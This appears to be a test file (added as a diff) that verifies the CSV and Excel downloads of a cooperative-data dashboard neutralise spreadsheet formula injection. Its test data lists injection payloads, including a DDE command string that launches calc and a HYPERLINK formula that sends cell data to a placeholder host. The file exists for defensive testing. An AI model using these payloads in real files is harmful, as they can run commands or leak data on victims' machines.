@@ -1,0 +1,177 @@
+"""Every CSV and Excel file the app offers stays inert: read back as a spreadsheet would read it (Python's
+csv module, openpyxl), no cell is a formula or starts like one, whatever the data held."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import unicodedata
+
+import office_exports as ox
+import openpyxl
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from kopdash import downloads, ingest
+
+from conftest import ROOT
+
+# Cells a careless or hostile office could send; each would start a formula if written as it comes.
+HOSTILE = [
+    "=1+1",
+    "Budi\r=1+1",
+    "Budi\n=1+1",
+    "Budi\r\n@SUM(A1)",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+    " =1+1",
+    "\t=1+1",
+    "+1+1",
+    "-1+A1",
+    '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+]
+HARMLESS = ["-5", "+62 812 3456", "1.234", "biasa", "", "Jl. Merdeka - 5"]
+
+
+def evaluates(cell: str) -> bool:
+    """Whether a spreadsheet would take this cell for a formula (fullwidth signs read as ASCII)."""
+    text = unicodedata.normalize("NFKC", cell).lstrip()
+    if not text or text[0] not in "=+-@":
+        return False
+    return not text[1:].replace(".", "").replace(",", "").replace(" ", "").isdigit()
+
+
+def cells_of_csv(data: bytes) -> list[str]:
+    text = data.decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
+
+
+def cells_of_xlsx(data: bytes) -> list[openpyxl.cell.Cell]:
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+def assert_inert(csv_data: bytes, xlsx_data: bytes) -> None:
+    for cell in cells_of_csv(csv_data):
+        assert not evaluates(cell), repr(cell)
+        assert not cell.startswith(("\r", "\n")), repr(cell)
+    for cell in cells_of_xlsx(xlsx_data):
+        assert cell.data_type != "f", repr(cell.value)
+        if isinstance(cell.value, str) and evaluates(cell.value):
+            assert cell.quotePrefix, f"{cell.value!r} would become a formula when edited"
+
+
+def test_hostile_cells_and_headers_stay_text_in_csv_and_excel():
+    frame = pd.DataFrame({f"Kolom {i}": [text] for i, text in enumerate(HOSTILE + HARMLESS)})
+    frame["=1+1"] = "x"  # a header is a cell too (an unrecognised header of a quarantined row)
+    frame["Catatan\r=2+2"] = "y"
+    csv_data, xlsx_data = downloads.csv_bytes(frame), downloads.xlsx_bytes(frame)
+    assert_inert(csv_data, xlsx_data)
+    rows = list(csv.reader(io.StringIO(csv_data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert len(rows) == 2, "a line break inside a cell never starts a new row"
+    # Harmless values and the text itself come back unchanged (only the leading ' is added).
+    assert rows[1][len(HOSTILE) :] == [*HARMLESS, "x", "y"]
+    assert [cell.removeprefix("'") for cell in rows[1][: len(HOSTILE)]] == HOSTILE
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
+    kept = [c.value.replace("_x000D_", "\r") for c in sheet[2]][: len(HOSTILE)]  # Excel's escape of CR
+    assert kept == HOSTILE, "Excel cells keep the text verbatim"
+
+
+# -- every download the pages offer ------------------------------------------------------------------
+FORMULA_FIELDS = {
+    "Nama Koperasi": "=1+1",
+    "Kecamatan": "Kec\r=2+2",
+    "Desa": '＝HYPERLINK("http://x")',
+    "Nama Ketua": "@SUM(A1)",
+    "No HP": "-1+A1",
+    "Alamat": "Jl.\n=cmd|' /C calc'!A0",
+}
+HEADERS = ["NIK", *FORMULA_FIELDS, "Tanggal Badan Hukum", "RAT Terakhir", "Status Usaha", "Program"]
+SNAPSHOT = dt.date(2024, 12, 31)
+
+
+def export(rat_year: str, year: int = SNAPSHOT.year) -> bytes:
+    rows = [
+        HEADERS,
+        ["3603000000000901", *FORMULA_FIELDS.values(), "01/01/2010", rat_year, "Berjalan", ""],
+        ["3603000000000902", "=3+3 KMP", "Kec =4", "Desa", "", "", "", f"01/06/{year}", "", "Tidak", "KMP"],
+        ["3603000000000903", "=Kembar", "Kec", "Desa", "", "", "", "31/02/2009", "2023", "Ya", ""],
+    ]
+    return "\n".join(";".join(f'"{c}"' if "\n" in c or "\r" in c else c for c in r) for r in rows).encode()
+
+
+@pytest.fixture(scope="module")
+def formula_store(tmp_path_factory):
+    root = ox.scratch_store(tmp_path_factory.mktemp("formula") / "store")
+    regions = root / "regions.csv"  # a region's name is data too, shown on the comparison
+    regions.write_text(regions.read_text().replace("Kabupaten Tangerang", "=Kabupaten Tangerang"))
+    for day, rat in ((dt.date(2023, 12, 31), "2022"), (SNAPSHOT, "2022")):
+        plan = ingest.plan_import(export(rat, day.year), "ekspor.csv", ox.REGION, day, root)
+        assert len(plan.accepted) == 2 and len(plan.quarantined) == 1, plan.quarantined
+        ingest.commit_import(plan, root)
+    return root
+
+
+def offered_downloads(monkeypatch, root, page: str, params: dict) -> list[tuple[bytes, bytes]]:
+    """The CSV and Excel bytes `page` offers with these URL parameters."""
+    made: dict[str, list[bytes]] = {"csv": [], "xlsx": []}
+    for kind in made:
+        original = getattr(downloads, f"{kind}_bytes")
+        monkeypatch.setattr(
+            downloads,
+            f"{kind}_bytes",
+            lambda *a, _o=original, _k=kind, **k: made[_k].append(_o(*a, **k)) or made[_k][-1],
+        )
+    monkeypatch.setenv("KOPDASH_DATA_DIR", str(root))
+    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    for key, value in {"date": SNAPSHOT.isoformat(), **params}.items():
+        app.query_params[key] = value
+    app.run()
+    app.switch_page(page)
+    app.run()
+    assert not app.exception, [e.value for e in app.exception]
+    return list(zip(made["csv"], made["xlsx"], strict=True))
+
+
+@pytest.mark.parametrize(
+    "page, params",
+    [
+        ("pages/wilayah.py", {"region": ox.REGION}),
+        ("pages/pantauan.py", {"region": ox.REGION}),
+        ("pages/program.py", {"region": ox.REGION, "programme": "koperasi_merah_putih"}),
+        ("pages/banding.py", {"regions": f"{ox.REGION},36.04"}),
+    ],
+)
+def test_every_list_the_pages_offer_is_inert(formula_store, monkeypatch, page, params):
+    offered = offered_downloads(monkeypatch, formula_store, page, params)
+    assert offered, f"{page} offers no download"
+    for csv_data, xlsx_data in offered:
+        assert_inert(csv_data, xlsx_data)
+    neutralised = [c for csv_data, _ in offered for c in cells_of_csv(csv_data) if c.startswith("'=")]
+    assert neutralised, "the hostile names reached the file, as text"
+
+
+def test_the_quarantine_download_is_inert(formula_store, monkeypatch):
+    monkeypatch.setenv("KOPDASH_DATA_DIR", str(formula_store))
+    made = []
+    original = downloads.csv_bytes
+    monkeypatch.setattr(downloads, "csv_bytes", lambda frame: made.append(original(frame)) or made[-1])
+    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
+    app.run()
+    app.switch_page("pages/impor.py")
+    app.run()
+    app.selectbox(key="import_region").set_value(ox.REGION)
+    app.date_input(key="import_date").set_value(SNAPSHOT)
+    data = export("2023").replace(b"Program", b'=HYPERLINK("x")')  # an unrecognised, hostile header
+    app.file_uploader(key="import_file").set_value(("ekspor.csv", data, "text/csv"))
+    app.run()
+    assert not app.exception, [e.value for e in app.exception]
+    assert made, "the quarantine is offered for download"
+    cells = cells_of_csv(made[-1])
+    assert '\'=HYPERLINK("x")' in cells and "'=Kembar" in cells
+    assert not any(evaluates(cell) for cell in cells)
